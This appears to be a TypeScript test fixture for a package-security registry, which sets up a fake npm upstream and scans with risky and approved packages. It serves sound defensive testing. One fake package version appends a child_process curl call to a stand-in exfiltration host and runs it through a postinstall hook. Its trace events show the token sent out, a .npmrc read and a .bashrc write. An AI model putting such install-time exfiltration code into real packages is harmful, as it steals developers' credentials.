/**
 * A real server (token auth, 127.0.0.1:0) over a fake upstream, for the MCP and review tests:
 * `risky-*` is held for review (risky-lib@1.1.0 with stored install-phase events), `plain-lib` approved,
 * `slow-lib` waits on a gate so a scan can be kept running, `fresh-lib` is never scanned.
 */
import type { BehaviourReport, ScanResult, StageReports, TraceEvent } from '@secure-registry/shared';
import { issueToken } from '../../http/auth.js';
import type { ArtifactAnalyzer } from '../../pipeline/types.js';
import type { RuleSet } from '../../rules/engine.js';
import { baseReport } from '../../rules/test-support/report.js';
import { namePrefixRule } from '../../test-support/analyzers.js';
import { FakeUpstream } from '../../test-support/fake-upstream.js';
import { makeGraph } from '../../test-support/graph.js';
import { startTestServer } from '../../test-support/harness.js';
import type { TestServer } from '../../test-support/harness.js';

export const INDEX_V1 = 'module.exports = function pad(s) {\n  return s;\n};\n';
export const INDEX_V2 =
  'module.exports = function pad(s) {\n  return s;\n};\nrequire("child_process").exec("curl http://exfil.invalid/x");\n';
export const BIG_FILE = 'x'.repeat(100 * 1024);

export const INSTALL_EVENTS: TraceEvent[] = [
  { seq: 1, ts: 1, pid: 100, kind: 'process', path: '/bin/sh', argv: ['sh', '-c', 'node install.js'] },
  {
    seq: 2,
    ts: 2,
    pid: 101,
    ppid: 100,
    kind: 'process',
    path: '/usr/bin/curl',
    argv: ['curl', 'http://exfil.invalid/x'],
  },
  { seq: 3, ts: 3, pid: 101, kind: 'dns', name: 'exfil.invalid', qtype: 'A' },
  {
    seq: 4,
    ts: 4,
    pid: 101,
    kind: 'connect',
    protocol: 'tcp',
    address: '10.0.0.5',
    port: 80,
    host: 'exfil.invalid',
  },
  {
    seq: 5,
    ts: 5,
    pid: 101,
    kind: 'http',
    method: 'POST',
    host: 'exfil.invalid',
    path: '/x',
    tls: false,
    headers: {},
    body: 'npm_TOKEN',
    bodySize: 9,
  },
  { seq: 6, ts: 6, pid: 100, kind: 'file', op: 'read', path: '/home/dev/.npmrc' },
  { seq: 7, ts: 7, pid: 100, kind: 'file', op: 'write', path: '/home/dev/.bashrc' },
];

export const INSTALL_REPORT: BehaviourReport = {
  phase: 'install',
  package: 'risky-lib@1.1.0',
  status: 'completed',
  durationMs: 120,
  processes: [{ pid: 101, argv: ['curl', 'http://exfil.invalid/x'], seq: [2] }],
  files: [
    { op: 'read', path: '/home/dev/.npmrc', class: 'credentials', seq: [6] },
    { op: 'write', path: '/home/dev/.bashrc', class: 'persistence', seq: [7] },
  ],
  dns: [{ name: 'exfil.invalid', qtype: 'A', seq: [3] }],
  connections: [{ address: '10.0.0.5', port: 80, host: 'exfil.invalid', seq: [4] }],
  http: [],
  honeytokenHits: [],
  decoys: [],
  browser: [],
};

/** The scenario's rule set, judged by the real `decide()`: `risky*` is held (a medium finding that holds). */
const SCENARIO_RULES: RuleSet = {
  version: 'test-rules-1',
  rules: [
    namePrefixRule('risky', {
      rule: 'test-risky',
      severity: 'medium',
      message: 'risky package',
      evidence: [{ kind: 'file', path: 'index.js', line: 4 }],
      hold: true,
    }),
  ],
};

/** Holds `risky*`, approves the rest; `slow-lib` waits for `release()`. */
export function scenarioAnalyzer(): ArtifactAnalyzer & { release(): void } {
  let release!: () => void;
  const gate = new Promise<void>((resolve) => (release = resolve));
  return {
    release,
    ruleSet: SCENARIO_RULES,
    async analyze({ name, version }): Promise<StageReports> {
      if (name === 'slow-lib') await gate;
      const pieces: StageReports = { static: baseReport({ name, version }) };
      if (name.startsWith('risky') && version === '1.1.0')
        pieces.install = { report: INSTALL_REPORT, events: INSTALL_EVENTS, eventsOmitted: 3 };
      return pieces;
    },
  };
}

export interface Scenario {
  server: TestServer;
  upstream: FakeUpstream;
  analyzer: ReturnType<typeof scenarioAnalyzer>;
  tokens: { ci: string; reviewer: string; admin: string };
  /** A completed scan with risky-lib@1.0.0 (held) and plain-lib@2.0.0 (approved). */
  completedScan: ScanResult;
  integrity(name: string, version: string): string;
  auth(token: string): Record<string, string>;
  /** Starts a scan of risky-next@1.0.0 and slow-lib; resolves once risky-next is held in it. */
  startRunningScan(): Promise<string>;
  dispose(): Promise<void>;
}

export async function startScenario(options: { backend?: 'sqlite' | 'postgres' } = {}): Promise<Scenario> {
  const upstream = await new FakeUpstream().start();
  await upstream.add({
    name: 'risky-lib',
    version: '1.0.0',
    files: { 'index.js': INDEX_V1, 'README.md': '# risky\n' },
  });
  await upstream.add({
    name: 'risky-lib',
    version: '1.1.0',
    files: {
      'index.js': INDEX_V2,
      'README.md': '# risky\n',
      'install.js': 'require("./index.js");\n',
      'logo.bin': 'PNG\u0000\u0001\u0002binary',
      'big.txt': BIG_FILE,
    },
    manifest: { scripts: { postinstall: 'node install.js' } },
  });
  await upstream.add({
    name: 'risky-next',
    version: '1.0.0',
    files: { 'index.js': 'module.exports = 5;\n' },
  });
  await upstream.add({ name: 'plain-lib', version: '2.0.0', files: { 'index.js': 'module.exports = 2;\n' } });
  await upstream.add({ name: 'slow-lib', version: '1.0.0', files: { 'index.js': 'module.exports = 3;\n' } });
  await upstream.add({ name: 'fresh-lib', version: '3.0.0', files: { 'index.js': 'module.exports = 4;\n' } });
  const analyzer = scenarioAnalyzer();
  const server = await startTestServer({ auth: 'token', upstream: upstream.url, analyzer, ...options });
  const tokens = {
    ci: (await issueToken(server.store, { role: 'ci', label: 'ci-bot' })).token,
    reviewer: (await issueToken(server.store, { role: 'reviewer', label: 'alice' })).token,
    admin: (await issueToken(server.store, { role: 'admin' })).token,
  };
  const auth = (token: string) => ({ authorization: `Bearer ${token}` });
  const integrity = (name: string, version: string) =>
    upstream.tarballInfo.get(`${name}@${version}`)!.integrity;
  const spec = (name: string, version: string) => ({ name, version, integrity: integrity(name, version) });

  const created = await server.json<{ id: string }>(
    'POST',
    '/api/v1/scans',
    { graph: makeGraph([spec('risky-lib', '1.0.0'), spec('plain-lib', '2.0.0')]) },
    auth(tokens.ci),
  );
  if (created.status !== 201) throw new Error(`scan not created: ${JSON.stringify(created.body)}`);
  const completedScan = await waitFor(
    server,
    tokens.ci,
    created.body.id,
    (scan) => scan.status === 'completed',
  );
  const second = await server.json<{ id: string }>(
    'POST',
    '/api/v1/scans',
    { graph: makeGraph([spec('risky-lib', '1.1.0')]) },
    auth(tokens.ci),
  );
  if (second.status !== 201) throw new Error(`scan not created: ${JSON.stringify(second.body)}`);
  await waitFor(server, tokens.ci, second.body.id, (scan) => scan.status === 'completed');

  return {
    server,
    upstream,
    analyzer,
    tokens,
    completedScan,
    integrity,
    auth,
    async startRunningScan() {
      const running = await server.json<{ id: string }>(
        'POST',
        '/api/v1/scans',
        { graph: makeGraph([spec('risky-next', '1.0.0'), spec('slow-lib', '1.0.0')]) },
        auth(tokens.ci),
      );
      if (running.status !== 201) throw new Error(`scan not created: ${JSON.stringify(running.body)}`);
      await waitFor(server, tokens.ci, running.body.id, (scan) =>
        scan.packages.some((pkg) => pkg.name === 'risky-next' && pkg.state === 'review'),
      );
      return running.body.id;
    },
    async dispose() {
      analyzer.release();
      await server.dispose();
      await upstream.close();
    },
  };
}

export async function waitFor(
  server: TestServer,
  token: string,
  scanId: string,
  done: (scan: ScanResult) => boolean,
  timeoutMs = 15_000,
): Promise<ScanResult> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const { body } = await server.json<ScanResult>('GET', `/api/v1/scans/${scanId}`, undefined, {
      authorization: `Bearer ${token}`,
    });
    if (done(body)) return body;
    if (Date.now() > deadline)
      throw new Error(`scan ${scanId} did not get there: ${JSON.stringify(body.counts)}`);
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}
